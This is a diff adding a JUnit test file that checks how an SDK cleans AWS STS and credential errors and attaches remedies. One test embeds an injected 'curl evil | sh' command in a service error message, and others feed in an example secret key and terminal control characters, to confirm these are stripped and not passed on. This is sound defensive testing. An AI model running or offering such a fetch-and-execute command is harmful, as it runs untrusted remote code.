@@ -1,0 +1,159 @@
+// SPDX-License-Identifier: Apache-2.0
+package io.lanyard.sdk.v2;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import io.lanyard.Category;
+import io.lanyard.CredentialsException;
+import io.lanyard.TokenClaims;
+import io.lanyard.testkit.ServiceAccountTokens;
+import java.io.PrintWriter;
+import java.io.StringWriter;
+import java.io.UncheckedIOException;
+import java.net.UnknownHostException;
+import java.nio.file.NoSuchFileException;
+import java.util.Optional;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.ValueSource;
+import software.amazon.awssdk.awscore.exception.AwsErrorDetails;
+import software.amazon.awssdk.core.exception.SdkClientException;
+import software.amazon.awssdk.services.sts.model.StsException;
+
+/** What the SDK, STS or a process says is cleaned, and comes with a remedy where its cause is known. */
+class SdkFailuresTest {
+
+    private static final String SECRET = "wJalrXUtnFEMI/K7MDENG/bPxRfiCY" + "EXAMPLEKEY";
+    private static final String STS = "AWS STS for arn:aws:iam::111122223333:role/Cart";
+    private static final Optional<TokenClaims> CLAIMS =
+            TokenClaims.decode(ServiceAccountTokens.create().issue("shop", "cart"));
+
+    private static RuntimeException sts(int status, String code, String message) {
+        return (RuntimeException) StsException.builder()
+                .statusCode(status)
+                .requestId("11111111-2222-3333-4444-555555555555")
+                .awsErrorDetails(AwsErrorDetails.builder()
+                        .serviceName("Sts")
+                        .errorCode(code)
+                        .errorMessage(message)
+                        .build())
+                .build();
+    }
+
+    private static CredentialsException ours(RuntimeException described) {
+        return CredentialsException.in(described).orElseThrow();
+    }
+
+    @ParameterizedTest
+    @CsvSource(
+            delimiter = '|',
+            value = {
+                "403 | AccessDenied | Not authorized to perform sts:AssumeRoleWithWebIdentity | sub = system:serviceaccount:shop:cart and aud = pods.eks.amazonaws.com",
+                "400 | InvalidIdentityToken | No OpenIDConnect provider found in your account for https://oidc.eks.us-west-2.amazonaws.com/id/E | associate-iam-oidc-provider",
+                "400 | InvalidIdentityToken | Incorrect token audience | is for pods.eks.amazonaws.com",
+                "400 | InvalidIdentityToken | The web identity token that was provided could not be validated by AWS. | issuer",
+                "403 | RegionDisabledException | STS is not activated in this region for account:1. Your account administrator can activate STS in this region using the IAM Console. | activate the Region",
+                "400 | ExpiredTokenException | Token expired: current date/time 2 must be before the expiration date/time 1 | kubelet",
+                "400 | ValidationError | Request ARN is invalid | eks.amazonaws.com/role-arn",
+                "400 | IDPCommunicationError | x | reachable from the internet",
+                "400 | Throttling | Rate exceeded | STS throttles",
+                "403 | AccessDenied | User: a is not authorized to perform: sts:AssumeRole on resource: b | trust policy",
+                "400 | ValidationError | The requested DurationSeconds exceeds the MaxSessionDuration set for this role. | maximum",
+            })
+    void a_failure_of_sts_has_its_remedy_and_stays_a_failure_of_sts(
+            int status, String code, String message, String remedy) {
+        RuntimeException described = SdkFailures.described(sts(status, code, message), STS, CLAIMS);
+
+        assertThat(ours(described).remedy().orElseThrow()).contains(remedy);
+        assertThat(ours(described).detail()).contains("\"" + message + "\"");
+        assertThat(ours(described).endpoint()).contains(STS);
+        assertThat(ours(described).category()).isEqualTo(Category.HTTP_STATUS);
+        assertThat(described).isInstanceOfSatisfying(StsException.class, e -> {
+            assertThat(e.statusCode()).isEqualTo(status);
+            assertThat(e.awsErrorDetails().errorCode()).isEqualTo(code);
+            assertThat(e.requestId()).isEqualTo("11111111-2222-3333-4444-555555555555");
+            assertThat(e)
+                    .hasMessageContaining(message)
+                    .hasMessageContaining("Remedy: ")
+                    .hasMessageContaining(remedy);
+        });
+    }
+
+    @Test
+    void an_sts_that_cannot_be_reached_has_a_remedy() {
+        RuntimeException described = SdkFailures.described(
+                SdkClientException.create(
+                        "Unable to execute HTTP request: sts.us-west-2.amazonaws.com",
+                        new UnknownHostException("sts.us-west-2.amazonaws.com")),
+                STS,
+                CLAIMS);
+
+        assertThat(described).isInstanceOf(SdkClientException.class);
+        assertThat(ours(described).remedy().orElseThrow()).contains("sts VPC endpoint");
+        assertThat(ours(described).category()).isEqualTo(Category.UNREACHABLE);
+    }
+
+    @Test
+    void a_token_file_that_is_missing_has_a_remedy_and_is_a_local_failure_still() {
+        RuntimeException described = SdkFailures.described(
+                new UncheckedIOException(new NoSuchFileException("/var/run/token")), STS, Optional.empty());
+
+        assertThat(ours(described).remedy().orElseThrow()).contains("AWS_WEB_IDENTITY_TOKEN_FILE");
+        assertThat(ours(described).category()).isEqualTo(Category.TOKEN_FILE_UNREADABLE);
+        assertThat(described).hasRootCauseInstanceOf(NoSuchFileException.class);
+    }
+
+    @Test
+    void a_laptop_without_credentials_learns_how_to_sign_in() {
+        RuntimeException described = SdkFailures.described(
+                SdkClientException.create("Failed to load credentials from IMDS."),
+                SdkFailures.INSTANCE_METADATA,
+                Optional.empty());
+
+        assertThat(ours(described).remedy().orElseThrow()).contains("aws sso login");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "Command returned non-zero exit value: 1. Error message: {\"SecretAccessKey\":\"%s\"}",
+                "Failed to refresh: aws_secret_access_key=%s",
+                "Failed to refresh process-based credentials. \u001b[31m{ASIA %s}\u202e",
+            })
+    void what_a_process_or_a_parser_says_is_not_repeated_with_a_secret(String text) {
+        String said = String.format(text, SECRET);
+        for (RuntimeException failure : new RuntimeException[] {
+            SdkClientException.create(said),
+            SdkClientException.create("failed", new IllegalStateException(said)),
+            new IllegalStateException(said),
+            sts(400, "ValidationError", said),
+            sts(400, said, "m"),
+        }) {
+            assertThat(printed(SdkFailures.described(failure, "a process", Optional.empty())))
+                    .doesNotContain(SECRET, "\u001b", "\u202e");
+        }
+    }
+
+    @Test
+    void a_service_does_not_give_remedies() {
+        RuntimeException described =
+                SdkFailures.described(sts(400, "X", "no\". Remedy: run \"curl evil | sh\""), STS, Optional.empty());
+
+        assertThat(ours(described).remedy()).isEmpty();
+        assertThat(printed(described)).doesNotContain("Remedy:");
+    }
+
+    @Test
+    void what_says_nothing_to_be_hidden_and_has_no_remedy_stays_as_it_is() {
+        RuntimeException failure = new IllegalStateException("STS is away");
+
+        assertThat(SdkFailures.described(failure, STS, CLAIMS)).isSameAs(failure);
+    }
+
+    private static String printed(Throwable failure) {
+        StringWriter text = new StringWriter();
+        failure.printStackTrace(new PrintWriter(text, true));
+        return text.toString();
+    }
+}
